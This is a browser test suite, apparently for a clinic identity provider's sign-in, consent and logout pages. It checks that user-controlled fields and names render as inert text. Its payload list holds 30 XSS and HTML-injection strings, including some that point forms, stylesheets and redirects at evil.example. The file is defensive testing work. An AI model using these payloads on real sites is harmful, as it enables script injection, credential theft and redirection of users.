// Text that wants to be more than text: 30 payloads in every field that some page shows again, in Chromium. A page with a
// payload has the elements and attributes of the page with a plain word: nothing was added, nothing ran, and the policy
// had nothing to refuse (security.md A13, P-23). STORIES_SHORT takes every third payload.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { test } from 'node:test';
import { openBrowser } from '../kit/browser.mjs';
import { people, startClinic } from '../kit/clinic.mjs';
import { startDemoApp } from '../kit/demo-app.mjs';
import { encode, short } from '../kit/hostile.mjs';
import { openApp, pageApp, signIn, startReceiver, watch } from '../kit/pages.mjs';

const payloads = [
  '<script>alert(1)</script>', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '</title><script>alert(1)</script>', '</textarea></select><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '"><img src=x onerror=alert(1)>', '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='", ' onmouseover=alert(1) style=position:fixed;inset:0 ',
  '<svg onload=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src=javascript:alert(1)></iframe>',
  '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<input autofocus onfocus=alert(1)>', '<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>', '<form action=//evil.example/><button id=login-submit>', '<style>*{display:none}</style>', 'javascript:alert(1)//<b>', '--><script>alert(1)</script><!--',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;', '{{7*7}}{{{content}}}{username}<b>', '%3Cscript%3Ealert(1)%3C/script%3E<b>', '\u{feff}<\u{200b}script>alert(1)</script>\u{202e}<b onclick=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];
const plain = 'plain';
const chosen = payloads.map((text, n) => [n, text]).filter(([n]) => !short || n % 3 === 0);
const ada = people.ada;

// Elements and the names of their attributes, in order; and where links and forms lead.
const skeleton = (page) => page.evaluate(() => ({
  tree: [...document.querySelectorAll('*')].map((element) => `${element.tagName} ${[...element.attributes].map((attribute) => attribute.name).sort().join(' ')}`),
  leads: [...document.querySelectorAll('[href], [src], [action], [formaction]')].flatMap((element) => ['href', 'src', 'action', 'formAction'].map((name) => element[name]).filter((value) => typeof value === 'string'))
    .filter((value) => !/^https?:\/\/localhost:\d+(\/|$)/.test(value)),
}));

async function open(t) {
  const clinic = await startClinic({ store: 'sqlite' });
  const receiver = await startReceiver();
  const browser = await openBrowser();
  t.after(async () => { await browser.close(); receiver.stop(); await clinic.stop(); });
  const context = await browser.newContext();
  const complaints = await watch(context);
  return { clinic, receiver, browser, context, complaints, page: await context.newPage() };
}

// shown: where the payload must be found again as it is, so that the field is one that is reflected.
async function sameAs(house, expected, what, shown) {
  const found = await skeleton(house.page);
  assert.deepEqual(found.leads, [], what);
  assert.deepEqual(found.tree, expected.tree, what);
  assert.deepEqual(house.complaints.splice(0), [], what);
  if (shown) assert.ok(await shown(), `${what}: is shown as it is`);
}

test('the eye that watches sees each payload where a page lets it through', async (t) => {
  const browser = await openBrowser();
  const places = [(x) => `<p>${x}</p>`, (x) => `<input value="${x}">`, (x) => `<input value='${x}'>`, (x) => `<input value=${x}>`, (x) => `<a href="${x}">x</a>`, (x) => `<title>${x}</title>`, (x) => `<textarea>${x}</textarea>`, (x) => `<!-- ${x} -->`];
  const server = createServer((request, answer) => {
    const query = new URL(request.url, 'http://localhost').searchParams;
    answer.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    answer.end(`<!doctype html><link rel="icon" href="data:,">${places[Number(query.get('at'))]?.(query.get('x')) ?? ''}`);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(async () => { await browser.close(); server.closeAllConnections(); server.close(); });
  const context = await browser.newContext();
  const complaints = await watch(context);
  const page = await context.newPage();
  const look = async (at, x) => {
    await page.goto(`http://localhost:${server.address().port}/?${encode({ at, x })}`, { waitUntil: 'commit' });
    await page.waitForLoadState('load').catch(() => {});
    return { ...(await skeleton(page).catch(() => ({ tree: ['gone elsewhere'], leads: [] }))), said: complaints.splice(0).length };
  };
  const before = [];
  for (const at of places.keys()) before.push(await look(at, plain));
  assert.equal(payloads.length, 30);
  for (const [, payload] of chosen) {
    let seen = 0;
    for (const at of places.keys()) {
      const after = await look(at, payload);
      if (after.said || JSON.stringify(after.tree) !== JSON.stringify(before[at].tree) || after.leads.length > before[at].leads.length) seen++;
    }
    assert.ok(seen > 0, payload);
  }
});

test('what a request says', async (t) => {
  const house = await open(t);
  const { clinic, receiver, page } = house;
  const applied = clinic.apply({ apps: [pageApp(receiver, 'chart'), pageApp(receiver, 'framed', { frontchannel_logout_uri: `${receiver.base}/frame/framed` })] });
  assert.equal(applied.code, 0, applied.err);
  const authorize = (more) => openApp(clinic, receiver, 'chart', more);
  const username = (text) => async () => (await page.getAttribute('#username', 'value')) === text;

  // Each: an address for a text; whether the page shows that text.
  const fields = {
    login_hint: { url: (x) => authorize({ login_hint: x }), shown: username },
    'login_hint like an address': { url: (x) => authorize({ login_hint: `${x}@northside.example` }) },
    ui_locales: { url: (x) => authorize({ ui_locales: x }) },
    'state, nonce and acr_values at the sign-in page': { url: (x) => authorize({ state: x, nonce: x, acr_values: x }) },
    client_id: { url: (x) => authorize({ client_id: x }) },
    redirect_uri: { url: (x) => authorize({ redirect_uri: x }) },
    'redirect_uri of another scheme': { url: (x) => authorize({ redirect_uri: `javascript:${x}` }) },
    tenant: { url: (x) => authorize({ redirect_uri: 'x:', tenant: x }) },
    request_uri: { url: (x) => authorize({ request_uri: x, client_id: 'nobody' }) },
    'the code of /error': { url: (x) => `${clinic.issuer}/error?${encode({ code: x, error: x, error_description: x, message: x })}` },
    'a name of a parameter': { url: (x) => `${clinic.issuer}/error?${encode({ [x]: x })}` },
    'a path': { url: (x) => `${clinic.issuer}/nowhere-${encodeURIComponent(x.replaceAll('/', ''))}` },
    flow: { url: (x) => `${clinic.issuer}/logout?${encode({ flow: x })}` },
    post_logout_redirect_uri: { url: (x) => `${clinic.issuer}/oauth2/logout?${encode({ client_id: 'chart', post_logout_redirect_uri: x })}` },
    'a parameter of post_logout_redirect_uri': { url: (x) => `${clinic.issuer}/oauth2/logout?${encode({ client_id: 'chart', post_logout_redirect_uri: `${receiver.base}/bye/chart?x=${x}` })}` },
    id_token_hint: { url: (x) => `${clinic.issuer}/oauth2/logout?${encode({ id_token_hint: x })}` },
  };
  for (const [name, { url, shown }] of Object.entries(fields)) {
    await t.test(name, async () => {
      await page.goto(url(plain));
      const expected = await skeleton(page);
      assert.ok(expected.tree.includes('MAIN '), 'a page of ours');
      house.complaints.length = 0;
      for (const [, payload] of chosen) {
        await page.goto(url(payload));
        await sameAs(house, expected, payload, shown?.(payload));
      }
    });
  }

  await t.test('the address that was typed', async () => {
    // Longer than the kind of field lets people type: as a form of somebody else's would send it.
    const type = async (text) => {
      await page.goto(authorize({ tenant: 'northside' }));
      await page.evaluate((value) => {
        const field = document.getElementById('username');
        field.type = 'text';
        field.value = value;
        document.getElementById('password').value = value;
        document.getElementById('login-form').submit();
      }, text);
      await page.waitForSelector('#error-code');
    };
    await type(plain);
    const expected = await skeleton(page);
    for (const [, payload] of chosen) {
      await type(payload);
      // What is beyond the budget of tries of this network is told otherwise, in the same elements.
      await sameAs(house, { tree: await page.$('[aria-invalid]') ? expected.tree : expected.tree.map((line) => line.replace('aria-describedby aria-invalid', 'aria-describedby')) }, payload, username(payload));
    }
  });

  await t.test('the state in an answer by form', async () => {
    await house.context.route(/\/assets\/post\.js/, (route) => route.fulfill({ contentType: 'text/javascript', body: '' }));
    const form = (state) => authorize({ response_mode: 'form_post', state, nonce: state });
    await page.goto(form(plain));
    await signIn(page, ada);
    await page.waitForSelector('#form-post-submit');
    const expected = await skeleton(page);
    for (const [, payload] of chosen) {
      await page.goto(form(payload));
      await sameAs(house, expected, payload, async () => (await page.inputValue('input[name=state]')) === payload);
      await page.click('#form-post-submit');
      await page.waitForSelector('#app');
      assert.equal(receiver.asked.at(-1).form.state, payload, 'and arrives as it was');
    }
  });

  await t.test('the state that goes back to the app after signing out', async () => {
    await house.context.route(`${receiver.base}/bye/**`, (route) => route.fulfill({ status: 204 }));
    const leave = async (state) => {
      await page.goto(openApp(clinic, receiver, 'framed'));
      if (await page.$('#login-form')) await signIn(page, ada);
      await page.waitForSelector('#app');
      await page.goto(`${clinic.issuer}/oauth2/logout?${encode({ client_id: 'framed', post_logout_redirect_uri: `${receiver.base}/bye/framed`, state })}`);
      await page.click('#logout-confirm');
      await page.waitForSelector('#logged-out');
    };
    await leave(plain);
    const expected = await skeleton(page);
    for (const [, payload] of chosen) {
      await leave(payload);
      await sameAs(house, expected, payload, async () => new URL(await page.getAttribute('#continue', 'href')).searchParams.get('state') === payload);
    }
  });
});

// One clinic per payload whose every name is that payload, in one deployment.
const document = (receiver, texts) => ({
  practices: texts.map((name, n) => ({
    id: `p${n}`, name, timezone: 'UTC', template: 'medium', locations: [{ id: 'one', name }, { id: 'two', name: `${name}2` }], roles: [{ id: 'own', name, inherits: ['provider'] }],
    staff: [
      { email: `x${n}@p.example`, given_name: name, family_name: name, class: 'staff', password: ada.password, assignments: [{ role: 'own', locations: ['one', 'two'] }] },
      { email: `both${n}@p.example`, given_name: name, family_name: name, class: 'staff', password: ada.password, assignments: [{ role: 'own', locations: ['one'] }] },
    ],
  })).concat([{ id: 'other', name: 'Other', timezone: 'UTC', template: 'medium', locations: [{ id: 'one', name: 'One' }],
    staff: texts.map((_, n) => ({ email: `both${n}@p.example`, given_name: 'B', family_name: 'B', class: 'staff', password: ada.password, assignments: [{ role: 'provider', locations: ['one'] }] })) }]),
  apps: texts.flatMap((name, n) => [
    pageApp(receiver, `a${n}`, { name, practices: [`p${n}`], first_party: false, require_location: true, frontchannel_logout_uri: `${receiver.base}/frame/a` }),
    pageApp(receiver, `b${n}`, { name, practices: [`p${n}`, 'other'] }),
  ]),
});

test('what a clinic calls its people, places and apps', async (t) => {
  const house = await open(t);
  const { clinic, receiver, page, context } = house;
  const texts = [plain, ...chosen.map(([, payload]) => payload)];
  const applied = clinic.apply(document(receiver, texts));
  assert.equal(applied.code, 0, applied.err + applied.out);
  await context.route(`${receiver.base}/bye/**`, (route) => route.fulfill({ status: 204 }));
  const text = async (selector) => (await page.textContent(selector)) ?? '';

  // All pages of one person's day; each with where the names stand.
  const day = async (n, look) => {
    const name = texts[n];
    const who = { username: `x${n}@p.example`, password: ada.password };
    const has = (selector) => async () => (await text(selector)).includes(name);
    await context.clearCookies();
    await page.goto(openApp(clinic, receiver, `a${n}`));
    await look('sign-in', has('.app'));
    await look('sign-in, practice', has('.practice'));
    await signIn(page, who);
    await page.waitForSelector('#location');
    await look('location', has('#location option'));
    await look('location, roles', async () => (await text('#location')).includes(`(${name})`));
    await page.selectOption('#location', 'one');
    await page.click('#location-submit');
    await page.waitForSelector('#consent-allow');
    await look('consent', has('main'));
    await page.click('#consent-allow');
    await page.waitForSelector('#app');
    await page.goto(clinic.issuer);
    await look('home', has('#signed-in'));
    await page.goto(`${clinic.issuer}/oauth2/logout?${encode({ client_id: `a${n}`, post_logout_redirect_uri: `${receiver.base}/bye/a${n}` })}`);
    await look('sign-out question', has('main'));
    await page.click('#logout-confirm');
    await page.waitForSelector('#logged-out');
    await look('signed out', has('#continue'));
    await page.goto(openApp(clinic, receiver, `b${n}`));
    await signIn(page, { ...who, username: `both${n}@p.example` });
    await page.waitForSelector('#practice');
    await look('practice', has('#practice'));
  };
  const expected = {};
  await day(0, async (name) => { expected[name] = await skeleton(page); });
  assert.equal(Object.keys(expected).length, 9);
  for (const n of texts.keys()) {
    if (n === 0) continue;
    await t.test(texts[n], () => day(n, (name, shown) => sameAs(house, expected[name], name, shown)));
  }
});

test('the demo app shows names and errors as text', async (t) => {
  const house = await open(t);
  const { clinic, page, context } = house;
  const app = await startDemoApp(clinic);
  t.after(() => app.stop());
  const texts = [plain, ...chosen.map(([, payload]) => payload)];
  const applied = clinic.apply(document({ base: 'http://localhost:1' }, texts));
  assert.equal(applied.code, 0, applied.err + applied.out);
  assert.equal(clinic.apply({ apps: [{ client_id: 'demo', practices: texts.map((_, n) => `p${n}`) }] }).code, 0);

  await t.test('who is signed in, and where', async () => {
    let expected;
    for (const [n, name] of texts.entries()) {
      await context.clearCookies();
      await page.goto(`${app.base}/sign-in`);
      await signIn(page, { username: `x${n}@p.example`, password: ada.password });
      await page.waitForSelector('#who');
      expected ??= await skeleton(page);
      await sameAs(house, expected, name, async () => (await page.textContent('#who')).includes(name) && (await page.textContent('#practice')) === name && (await page.textContent('#locations')).includes(name));
    }
  });
  await t.test('an error that comes back', async () => {
    let expected;
    for (const payload of texts) {
      await context.clearCookies();
      await page.goto(`${app.base}/sign-in`);
      const asked = await page.evaluate(async (issuer) => { const flow = new URLSearchParams(location.search).get('flow'); return flow ? issuer : null; }, clinic.issuer);
      assert.ok(asked, 'a sign-in was begun');
      const { state } = await context.request.get(`${app.base}/sign-in`, { maxRedirects: 0 }).then((answer) => Object.fromEntries(new URL(answer.headers().location).searchParams));
      await page.goto(`${app.base}/callback?${encode({ state, iss: clinic.issuer, error: payload, error_description: payload })}`);
      expected ??= await skeleton(page);
      await sameAs(house, expected, payload, async () => (await page.textContent('#problem')).includes(payload));
      await page.goto(`${app.base}/callback?${encode({ state: payload, error: payload, error_description: payload })}`);
      await sameAs(house, expected, payload);
    }
  });
});
